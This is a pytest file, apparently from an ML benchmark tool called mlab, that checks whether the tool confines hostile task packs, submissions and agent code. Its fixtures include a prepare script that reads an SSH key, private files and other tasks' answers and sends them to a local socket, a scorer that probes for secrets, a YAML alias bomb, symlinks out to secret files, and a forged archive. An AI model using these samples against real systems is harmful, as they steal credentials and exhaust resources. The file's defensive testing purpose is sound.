"""Hostile inputs (issue 31, items 5-9 and 13): what mlab reads from packs, archives, submissions and agent code.

Each case reproduces an attack with real files and processes: a declarative pack whose prepare reaches for the
user's secrets and the network, a pack whose files are links out of it, a task.yaml of nested aliases, a Ray
node's archive naming writable files to link, a submission folder of a huge sparse file or a FIFO, and agent
code adding entries under a read-only folder.
"""
from __future__ import annotations

import json
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
import test_hostile
from test_hostile import TRAIN, HostileTask, Probe, act, run_case, script
from test_sandbox import make_sandbox
from test_scorer_isolation import Listener

from mlab.core.errors import MlabError
from mlab.core.plugins.registry import load_registry
from mlab.core.run.harness import Harness
from mlab.core.run.read_only_guard import SEPARATE_MOUNTS_MAX
from mlab.core.run.taskdata import TaskHome
from tests.fixtures.cli import mlab_in_process
from tests.fixtures.sandboxes import CONFINING

MLAB = Path(sys.executable).with_name("mlab")
SANDBOXES = CONFINING  # every registered sandbox that confines (tests/fixtures/sandboxes.py)
parametrize = pytest.mark.parametrize("sandbox", SANDBOXES)


# ---- 13: new entries under a read-only folder ------------------------------------------------------------------

ADD_ENTRIES = ("import os\n"
               "def attempt(what, fn):\n"
               "    try:\n        fn()\n        print('DONE', what)\n"
               "    except OSError as e:\n        print('refused', what, e.strerror)\n"
               "attempt('file', lambda: open('data/new.csv', 'w').write('x'))\n"
               "attempt('folder', lambda: (os.mkdir('data/sub'), open('data/sub/f.txt', 'w').write('x')))\n"
               "attempt('link', lambda: os.symlink(os.path.abspath('..'), 'data/run'))\n")
REPL_ADD = "import os; open('data/repl.csv', 'w').write('x'); os.mkdir('data/rdir')"


@parametrize
def test_new_entries_under_a_read_only_folder_do_not_stay(tmp_path, sandbox):
    """data/* has one file, mounted alone: agent code may add entries beside it, which go after the command,
    and the note says so."""
    seen: list[list[str]] = []
    probe = Probe(lambda: seen.append(sorted(os.listdir(tmp_path / "run" / "workspace" / "data"))))
    run = run_case(tmp_path, sandbox, [*script(ADD_ENTRIES), probe, act("Python REPL", command=REPL_ADD), probe])
    assert seen == [["train.csv"], ["train.csv"]]
    obs, _err = run.step(2)
    assert "[entries added under read-only folders have been removed: data/new.csv, data/run, data/sub]" in obs, obs
    assert "have been restored" not in obs, obs  # nothing read-only was changed, only added to
    obs, _err = run.step(3)
    assert "have been removed: data/rdir, data/repl.csv]" in obs, obs
    assert sorted(os.listdir(run.ws / "data")) == ["train.csv"]


@pytest.mark.parametrize("sandbox", [*SANDBOXES, "unconfined"])  # unconfined: its own assertions below
def test_a_big_read_only_folder_takes_no_new_entry(tmp_path, sandbox, monkeypatch):
    """data/* of more than SEPARATE_MOUNTS_MAX files is mounted whole by a confining sandbox: agent code cannot
    add to it at all. Unconfined, it can, and the entries go after the command."""
    prepare = HostileTask.prepare

    def many(self, ctx):
        prepare(self, ctx)
        for i in range(SEPARATE_MOUNTS_MAX + 8):
            (ctx.public_dir / "data" / f"part{i:03}.csv").write_text(TRAIN)

    monkeypatch.setattr(HostileTask, "prepare", many)
    if sandbox == "unconfined":
        monkeypatch.setattr(test_hostile, "make_sandbox", lambda _name: None)
    run = run_case(tmp_path, sandbox, [*script(ADD_ENTRIES)])
    obs, _err = run.step(2)
    if sandbox == "unconfined":
        assert "have been removed: data/new.csv, data/run, data/sub]" in obs, obs
    else:
        assert "DONE" not in obs and obs.count("Read-only file system") == 3, obs
        assert "have been removed" not in obs
    assert len(os.listdir(run.ws / "data")) == SEPARATE_MOUNTS_MAX + 9
    assert not {"new.csv", "run", "sub"} & set(os.listdir(run.ws / "data"))


# ---- 7: a task.yaml is bounded however it is written ----------------------------------------------------------

def alias_bomb(levels: int = 10, width: int = 9) -> str:
    """A small task.yaml whose nested aliases stand for width**levels values."""
    lines = ["x-bomb:", "  a0: &a0 [" + ",".join(['"lol"'] * width) + "]"]
    lines += [f"  a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * width) + "]" for i in range(1, levels)]
    return "\n".join(lines) + "\nname: bomb\ndescription: d\nresearch_problem: r\nmetric: accuracy\n" \
                              "answers: {file: a.csv, column: y}\nresources:\n  extras: *a9\n"


def check_task_bounded(folder: Path, memory_bytes: int = 1 << 30) -> subprocess.CompletedProcess:
    """`mlab check-task folder` in a process that may map at most memory_bytes."""
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory_bytes, memory_bytes))

    return subprocess.run([str(MLAB), "check-task", str(folder)], capture_output=True, text=True, timeout=120,
                          preexec_fn=limit)


@pytest.mark.parametrize("case", ["aliases", "nesting", "size"])
@pytest.mark.slow
def test_a_hostile_task_yaml_is_one_line_and_exit_2_within_memory(tmp_path, case):
    folder = tmp_path / "pack"
    folder.mkdir()
    text = {"aliases": alias_bomb(), "nesting": "name: " + "[" * 5_000 + "]" * 5_000 + "\n",
            "size": "name: x\n" + "# padding\n" * 200_000}[case]
    (folder / "task.yaml").write_text(text)
    if case == "aliases":
        assert len(text) < 2048
    result = check_task_bounded(folder)
    assert result.returncode == 2, result.stderr[-2000:]
    assert "Traceback" not in result.stderr and "MemoryError" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert {"aliases": "once its aliases (*name) are expanded", "nesting": "nests its values too deep",
            "size": "more than the 1000000 a task file may have"}[case] in result.stderr


def test_a_task_yaml_that_is_a_fifo_is_refused_without_waiting(tmp_path):
    from mlab.core.declarative.yamlfile import TaskFileError, load_located

    os.mkfifo(tmp_path / "task.yaml")
    with pytest.raises(TaskFileError, match="is not a regular file"):
        load_located(tmp_path / "task.yaml")


# ---- 9: mlab grade checks kinds and sizes before it copies anything --------------------------------------------

def grade(*args: object, tmp: Path, meanwhile: Callable[[int], object] = lambda _pid: None
          ) -> subprocess.CompletedProcess:
    """`mlab grade` with its scratch space (TMPDIR) in a folder of the test's own; meanwhile(its pid) is called
    once it has started."""
    tmp.mkdir(exist_ok=True)
    grading = subprocess.Popen([str(MLAB), "grade", *map(str, args)], stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True, env={**os.environ, "TMPDIR": str(tmp)})
    try:
        meanwhile(grading.pid)
    finally:
        stdout, stderr = grading.communicate(timeout=300)
    return subprocess.CompletedProcess(grading.args, grading.returncode, stdout, stderr)


def test_grade_refuses_a_huge_sparse_file_a_fifo_and_a_link_out_before_any_copy(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("host secret\n")
    secret.chmod(0o600)
    folder = tmp_path / "sub"
    folder.mkdir()
    with open(folder / "model.bin", "wb") as f:
        f.truncate(100 * 2**30)  # 100 GB apparent, nothing allocated
    os.mkfifo(folder / "submission.csv")
    os.symlink(secret, folder / "notes.txt")
    (folder / "ok.txt").write_text("fine\n")
    tmp = tmp_path / "tmp"
    # Another worker's `mlab grade` may make its own scratch in /dev/shm meanwhile (the decoy stands for one):
    # this grade's own would carry its process's id.
    decoy, pids = f"/dev/shm/mlab-grade-1-{os.getpid()}-decoy", []
    try:
        result = grade("lite/wine", folder, tmp=tmp, meanwhile=lambda pid: pids.append(pid) or os.mkdir(decoy))
        scratch = [name for name in os.listdir("/dev/shm") if name.startswith("mlab-grade-")]  # the decoy too
    finally:
        with suppress(FileNotFoundError):
            os.rmdir(decoy)
    assert result.returncode == 2, result.stdout + result.stderr
    lines = result.stderr.strip().splitlines()
    assert "Traceback" not in result.stderr and len(lines) == 3, lines
    assert lines[0].startswith("mlab: error: ")
    said = "\n".join(lines)
    assert f"{folder / 'model.bin'}: {100 * 2**30} bytes" in said
    assert f"{folder / 'submission.csv'}: a FIFO" in said
    assert f"{folder / 'notes.txt'}: a link out of the submission" in said and "ok.txt" not in said
    assert os.listdir(tmp) == []  # nothing was copied anywhere
    assert not [name for name in scratch if name.startswith(f"mlab-grade-{pids[0]}-")]


def test_grade_refuses_a_fifo_given_as_the_file(tmp_path):
    fifo = tmp_path / "submission.csv"
    os.mkfifo(fifo)
    result = grade("lite/wine", fifo, tmp=tmp_path / "tmp")
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.strip().splitlines() == [f"mlab: error: {fifo}: a FIFO; give a regular file or a folder"]


def test_a_loose_file_over_the_tasks_cap_is_refused_unread(tmp_path):
    big = tmp_path / "submission.csv"
    with open(big, "wb") as f:
        f.truncate(2**30)  # lite/wine reads at most Task.max_submission_bytes (256 MiB)
    result = grade("lite/wine", big, tmp=tmp_path / "tmp")
    assert result.returncode == 2, result.stderr
    assert result.stderr.strip().splitlines() == [
        f"mlab: error: {big}: {2**30} bytes, more than the task's {256 * 2**20}"]
    assert os.listdir(tmp_path / "tmp") == []


def test_a_killed_grade_leaves_no_scratch_copy(tmp_path):
    """kill -9 while a submission is being scored: the intake's watchdog removes the scratch copy."""
    folder = tmp_path / "sub"
    folder.mkdir()
    (folder / "submission.csv").write_text("id,quality\n1,5\n")
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys, time\nfrom pathlib import Path\nfrom mlab.core.run.intake import taken_in\n"
                               "with taken_in(Path(sys.argv[1]), 1 << 20) as copy:\n"
                               "    print(copy, flush=True)\n    time.sleep(120)\n", str(folder)],
        stdout=subprocess.PIPE, text=True)
    copy = Path(holder.stdout.readline().strip())
    assert (copy / "submission.csv").read_text() == "id,quality\n1,5\n"
    holder.kill()
    holder.wait()
    deadline = time.monotonic() + 20
    while copy.parent.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not copy.parent.exists()


# ---- 5: a declarative pack's prepare runs confined --------------------------------------------------------------

PACK_TASK = """\
name: greedy
description: "A pack whose prepare reaches for what is not its own."
research_problem: Predict y.
metric: accuracy
answers: {{file: answers.csv, column: y}}
prepare: prepare.py
reference: solve.py
resources: {{network_for_prepare: {network}}}
"""
PACK_TRAIN = "import shutil\nshutil.copyfile('test.csv', 'submission.csv')\n"
PACK_SOLVE = "open('submission.csv', 'w').write('id,y\\n1,1\\n2,0\\n')\n"
GREEDY_PREPARE = """\
import json, os, socket
from pathlib import Path
found = {{"env": {{"MLAB_HOME": "MLAB_HOME" in os.environ, "user's HOME": os.environ.get("HOME") == {home!r}}},
         "read": {{}}}}
for path in {secrets!r}:
    try:
        found["read"][path] = open(path).read() if os.path.isfile(path) else sorted(os.listdir(path))
    except OSError as exc:
        found["read"][path] = "refused: " + type(exc).__name__
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
        s.sendall(json.dumps(found).encode())
    found["net"] = "sent"
except OSError as exc:
    found["net"] = "refused: " + type(exc).__name__
try:
    open(os.path.join(os.environ["MLAB_TASK_DIR"], "planted.txt"), "w").write("x")
    found["pack"] = "written"
except OSError as exc:
    found["pack"] = "refused: " + type(exc).__name__
public, hidden = Path(os.environ["MLAB_PUBLIC_DIR"]), Path(os.environ["MLAB_HIDDEN_DIR"])
(public / "train.py").write_text(open(os.path.join(os.environ["MLAB_TASK_DIR"], "train.py")).read())
(public / "test.csv").write_text("id,y\\n1,0\\n2,0\\n")
(hidden / "answers.csv").write_text("id,y\\n1,1\\n2,0\\n")
(public / "found.json").write_text(json.dumps(found))
print("prepared")
"""


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def outside_tmp():
    """Folders outside /tmp: every sandbox's private /tmp would hide what is there anyway."""
    folder = Path(tempfile.mkdtemp(prefix="mlab-hostile-inputs-", dir="/var/tmp"))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def greedy_pack(outside: Path, port: int, network: bool = False) -> tuple[Path, dict[str, str]]:
    """A pack whose prepare tries to read a 0600 file, another task's hidden answers in MLAB_HOME and the
    user's home folder, and to post them to a 127.0.0.1 listener."""
    user_home = outside / "user"
    (user_home / ".ssh").mkdir(parents=True)
    (user_home / ".ssh" / "id_ed25519").write_text("USER-KEY\n")
    private = outside / "private.txt"
    private.write_text("PRIVATE-0600\n")
    private.chmod(0o600)
    mlab_home = outside / "mlab-home"
    other = mlab_home / "tasks" / "lite__other" / "hidden"
    other.mkdir(parents=True)
    (other / "answers.csv").write_text("OTHER-ANSWERS\n")
    secrets = {"private": str(private), "answers": str(other / "answers.csv"), "home": str(user_home / ".ssh"),
               "tasks": str(mlab_home / "tasks")}
    folder = outside / "pack" / "greedy"
    folder.mkdir(parents=True)
    (folder / "task.yaml").write_text(PACK_TASK.format(network=str(network).lower()))
    (folder / "prepare.py").write_text(GREEDY_PREPARE.format(secrets=list(secrets.values()), port=port,
                                                            home=str(user_home)))
    (folder / "train.py").write_text(PACK_TRAIN)
    (folder / "solve.py").write_text(PACK_SOLVE)
    return folder, {"MLAB_HOME": str(mlab_home), "HOME": str(user_home)}


def found_in(home: Path) -> dict:
    # a task folder's prepared data is named by its name and a digest of its files (folder__greedy-<digest>)
    (prepared,) = [*(home / "tasks").glob("folder__greedy*/public/found.json")]
    return json.loads(prepared.read_text())


def assert_nothing_left(found: dict, listener: Listener, env: dict[str, str]) -> None:
    assert listener.received == [], listener.received
    assert found["net"].startswith("refused"), found
    assert all(str(what).startswith("refused") for what in found["read"].values()), found
    assert found["env"] == {"MLAB_HOME": False, "user's HOME": False}, found
    assert found["pack"].startswith("refused"), found


@parametrize
def test_check_task_runs_a_packs_prepare_confined(sandbox, outside_tmp, listener):
    make_sandbox(sandbox)
    folder, env = greedy_pack(outside_tmp, listener.port)
    home = outside_tmp / "check-home"
    result = mlab_in_process("check-task", folder, "--sandbox", sandbox, "--home", home, env=env)
    assert "Traceback" not in result.stderr, result.stderr
    assert_nothing_left(found_in(home), listener, env)
    assert not (folder / "planted.txt").exists()
    assert result.returncode == 0, result.stdout + result.stderr  # the pack's own files were enough to pass


@parametrize
def test_prepare_and_a_runs_automatic_prepare_run_a_pack_confined(sandbox, outside_tmp, listener, monkeypatch):
    from mlab.core.declarative.pack import FOLDER_PACK
    from mlab.core.declarative.task import DeclarativeTask

    make_sandbox(sandbox)
    folder, env = greedy_pack(outside_tmp, listener.port)
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    task = DeclarativeTask.from_folder(folder, FOLDER_PACK)
    registry = load_registry()
    harness = Harness(registry, TaskHome(outside_tmp / "run-home"), sandbox=sandbox)
    harness.ensure_prepared(task)  # what `mlab run` does before its first step
    assert_nothing_left(found_in(harness.home.root), listener, env)
    # `mlab prepare` with the default sandbox (auto), and a harness whose sandbox does not confine
    for choice, home in (("auto", "prepare-home"), ("unconfined", "unconfined-home")):
        harness = Harness(registry, TaskHome(outside_tmp / home), sandbox=choice)
        harness.prepare(task)
        assert_nothing_left(found_in(harness.home.root), listener, env)


def test_a_pack_that_declares_the_network_reaches_it_and_still_nothing_else(outside_tmp, listener, monkeypatch):
    from mlab.core.declarative.pack import FOLDER_PACK
    from mlab.core.declarative.task import DeclarativeTask

    folder, env = greedy_pack(outside_tmp, listener.port, network=True)
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    harness = Harness(load_registry(), TaskHome(outside_tmp / "home"), sandbox="bwrap")
    make_sandbox("bwrap")
    harness.prepare(DeclarativeTask.from_folder(folder, FOLDER_PACK))
    found = found_in(harness.home.root)
    assert found["net"] == "sent" and listener.wait_for(1) and len(listener.received) == 1, found
    sent = json.loads(listener.received[0])
    assert all(str(what).startswith("refused") for what in sent["read"].values()), sent


# ---- 6: a pack's files are taken without following links out of it ---------------------------------------------

LINKED_TASK = """\
name: linked
description: "A pack whose files are links."
research_problem: Predict y.
metric: accuracy
answers: {file: answers.csv, column: y}
files:
  public: {train.py: train.py, data: data}
  hidden: {answers.csv: answers.csv}
"""


def linked_pack(root: Path) -> Path:
    folder = root / "linked"
    (folder / "data").mkdir(parents=True)
    (folder / "task.yaml").write_text(LINKED_TASK)
    (folder / "train.py").write_text("print('hi')\n")
    (folder / "answers.csv").write_text("id,y\n1,1\n")
    (folder / "data" / "train.csv").write_text("id,x\n1,2\n")
    os.symlink("train.csv", folder / "data" / "same.csv")  # a link inside the pack is its own file: fine
    return folder


@pytest.mark.parametrize("where", ["train.py", "data/notes.txt", "data"])
def test_a_link_out_of_the_pack_is_refused_in_one_line(tmp_path, outside_tmp, where):
    secret = outside_tmp / "secret.txt"
    secret.write_text("HOST-SECRET\n")
    secret.chmod(0o600)
    folder = linked_pack(tmp_path)
    target = folder / where
    if target.is_dir():
        shutil.rmtree(target)
        os.symlink(outside_tmp, target)
    else:
        target.unlink(missing_ok=True)
        os.symlink(secret, target)
    home = tmp_path / "home"
    result = mlab_in_process("check-task", folder, "--home", home)
    assert result.returncode == 2, result.stdout + result.stderr
    lines = result.stderr.strip().splitlines()
    field = "files.public.data" if where.startswith("data") else "files.public.train.py"
    assert len(lines) == 1 and f"field '{field}'" in lines[0] and "a link out of the task folder" in lines[0], lines
    assert "Traceback" not in result.stderr
    assert not home.exists() or "HOST-SECRET" not in subprocess.run(
        ["grep", "-r", "HOST-SECRET", str(home)], capture_output=True, text=True).stdout


def test_a_link_made_after_the_pack_was_read_is_refused_at_prepare(tmp_path, outside_tmp):
    """The check at load time is not the only one: the copy itself never follows a link out."""
    from mlab.core.declarative.pack import FOLDER_PACK
    from mlab.core.declarative.task import DeclarativeTask

    secret = outside_tmp / "secret.txt"
    secret.write_text("HOST-SECRET\n")
    folder = linked_pack(tmp_path)
    task = DeclarativeTask.from_folder(folder, FOLDER_PACK)
    os.symlink(secret, folder / "data" / "late.txt")
    home = TaskHome(tmp_path / "home")
    with pytest.raises(MlabError, match="is a link out of the task folder"):
        home.prepare(task)
    assert not home.is_prepared(task) and not any((tmp_path / "home" / "tasks").iterdir())
    (folder / "data" / "late.txt").unlink()
    home.prepare(task)
    public = home.public_dir(task)
    same = public / "data" / "same.csv"
    assert same.read_text() == "id,x\n1,2\n" and not same.is_symlink()


# ---- 8: a Ray node's archive cannot make the head link a writable file of the task -----------------------------

def interrupt_once(flag: list[bool]) -> Probe:
    """Stops the run part-way once (as Ctrl-C on a node does), leaving it resumable."""
    def stop() -> None:
        if not flag:
            flag.append(True)
            raise KeyboardInterrupt

    return Probe(stop)


@parametrize
def test_a_nodes_archive_cannot_link_the_tasks_starter_into_a_run(tmp_path, sandbox):
    """The node's archive leaves train.py out and names it (and the read-only data) as shared. The head links
    only the task's large read-only files, by its own list: after `--resume`, agent code appending to train.py
    changes the run's copy, never the task's starter in MLAB_HOME."""
    from mlab.core.bench.ray_engine import RUN_MEMBER, SHARED_MEMBER, extract, link_shared, pack
    from mlab.core.models import RunConfig
    from mlab.core.run.runner import Runner
    from mlab.core.sandbox.limits import Limits

    make_sandbox(sandbox)
    registry = test_hostile.registry()
    stopped: list[bool] = []
    append = "open('train.py', 'a').write('# agent code\\n')\nprint('appended')\n"
    agent = type("Playbook", (test_hostile.PlaybookAgent,), {"playbook": [
        act("List Files", dir_path="."), interrupt_once(stopped), *script(append, "append.py")]})
    registry.items["agents"][agent.name] = agent
    run_dir = tmp_path / "bench" / "runs" / "r1"
    config = RunConfig(task=test_hostile.TASK_NAME, agent=agent.name, sandbox=sandbox, max_steps=8,
                       action_timeout_s=30)
    limits = Limits(**test_hostile.LIMITS)
    with pytest.raises(KeyboardInterrupt):
        Runner(run_dir, config, registry, limits=limits).start()
    home = TaskHome.from_env()
    public = home.public_dir(HostileTask())
    starter = (public / "train.py").read_bytes()

    # What a hostile node sends back: the run folder without train.py, which it names as shared.
    forged = tmp_path / "shared.json"
    forged.write_text(json.dumps(["train.py", "data/train.csv"]))
    archive = tmp_path / "run.tar"
    pack({SHARED_MEMBER: forged, RUN_MEMBER: run_dir}, archive,
         leave_out=lambda name, _st: name == f"{RUN_MEMBER}/workspace/train.py")
    staging = tmp_path / "staging"
    assert extract(archive, staging) == []
    link_shared(staging, public, HostileTask.read_only_files)  # what the head does with every archive
    arrived = staging / RUN_MEMBER / "workspace"
    assert not (arrived / "train.py").exists()  # not the head's to link: the resume restores it from the snapshot
    shutil.rmtree(run_dir)
    os.replace(staging / RUN_MEMBER, run_dir)

    trace = Runner(run_dir, config, registry, limits=limits).resume()
    assert trace.status == "finished", trace.end_reason
    assert "appended" in trace.steps[-2].observation, trace.steps[-2].observation
    assert (run_dir / "workspace" / "train.py").read_bytes() == starter + b"# agent code\n"
    assert (public / "train.py").read_bytes() == starter  # the task's starter, for every later run


def test_the_head_links_only_large_read_only_files_of_its_own_copy(tmp_path):
    """Whatever the node names, the head links the files its task declares read-only and that a node links (1 MiB
    or more), from its own copy, where the arrived workspace lacks them."""
    from mlab.core.bench.ray_engine import RUN_MEMBER, SHARED_MEMBER, link_shared
    from mlab.core.run.readonly import SHARE_MIN_BYTES

    public = tmp_path / "public"
    (public / "data").mkdir(parents=True)
    big = os.urandom(SHARE_MIN_BYTES)
    (public / "data" / "big.bin").write_bytes(big)
    (public / "data" / "small.csv").write_text("x\n")
    (public / "model.bin").write_bytes(big)  # large but writable
    (public / "train.py").write_text("print('starter')\n")
    staging = tmp_path / "staging"
    (staging / RUN_MEMBER / "workspace" / "data").mkdir(parents=True)
    (staging / SHARED_MEMBER).write_text(json.dumps(["data/small.csv", "model.bin", "train.py"]))
    link_shared(staging, public, ["data/*"])
    arrived = staging / RUN_MEMBER / "workspace"
    assert sorted(p.relative_to(arrived).as_posix() for p in arrived.rglob("*")) == ["data", "data/big.bin"]
    assert (arrived / "data" / "big.bin").stat().st_ino == (public / "data" / "big.bin").stat().st_ino


def test_a_resumed_workspace_holds_no_hard_link_to_a_writable_file_outside(tmp_path):
    """Restoring a snapshot writes a file that has other hard links afresh, even when its content is the one
    recorded: whatever put the link there, agent code writing the file afterwards changes the run's copy only."""
    from mlab.core.run.snapshot import SnapshotStore

    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "train.py").write_text("print('starter')\n")
    store = SnapshotStore(tmp_path / "store")
    store.record(workspace, "s0")
    starter = tmp_path / "task-starter.py"
    starter.write_text("print('starter')\n")
    (workspace / "train.py").unlink()
    os.link(starter, workspace / "train.py")
    store.restore("s0", workspace)
    assert (workspace / "train.py").stat().st_nlink == 1
    with open(workspace / "train.py", "a") as f:
        f.write("# agent code\n")
    assert starter.read_text() == "print('starter')\n"


SCORED_TASK = """\
name: peeking
description: "A pack whose scorer reaches for what is not its own."
research_problem: Write submission.txt.
metric: ok
direction: higher
scorer: score.py
answers: {file: answers.txt}
files:
  public: {train.py: train.py}
  hidden: {answers.txt: answers.txt}
"""
PEEKING_SCORER = """\
import os
leaks = [p for p in {secrets!r} if os.access(p, os.R_OK)] + [k for k in os.environ if k.startswith("MLAB_HOME")]
if leaks:
    raise SystemExit("LEAKED " + " ".join(leaks))
open(os.environ["MLAB_SCORE_FILE"], "w").write("1")
"""


@pytest.mark.parametrize("sandbox", [*SANDBOXES, "unconfined"])
def test_a_packs_scorer_runs_confined_even_in_an_unconfined_run(sandbox, outside_tmp, monkeypatch):
    from mlab.core.declarative.pack import FOLDER_PACK
    from mlab.core.declarative.task import DeclarativeTask

    if sandbox != "unconfined":
        make_sandbox(sandbox)
    _folder, env = greedy_pack(outside_tmp, 9)
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    secrets = [str(outside_tmp / "private.txt"), str(outside_tmp / "mlab-home" / "tasks" / "lite__other"),
               str(outside_tmp / "user" / ".ssh" / "id_ed25519")]
    folder = outside_tmp / "scored"
    folder.mkdir()
    (folder / "task.yaml").write_text(SCORED_TASK)
    (folder / "score.py").write_text(PEEKING_SCORER.format(secrets=secrets))
    (folder / "train.py").write_text("open('submission.txt', 'w').write('1')\n")
    (folder / "answers.txt").write_text("1\n")
    task = DeclarativeTask.from_folder(folder, FOLDER_PACK)
    harness = Harness(load_registry(), TaskHome(outside_tmp / "home"), sandbox=sandbox)
    harness.prepare(task)
    workspace = outside_tmp / "ws"
    workspace.mkdir()
    (workspace / "submission.txt").write_text("1")
    assert harness.scorer.score_folder(task, workspace) == (1.0, None)
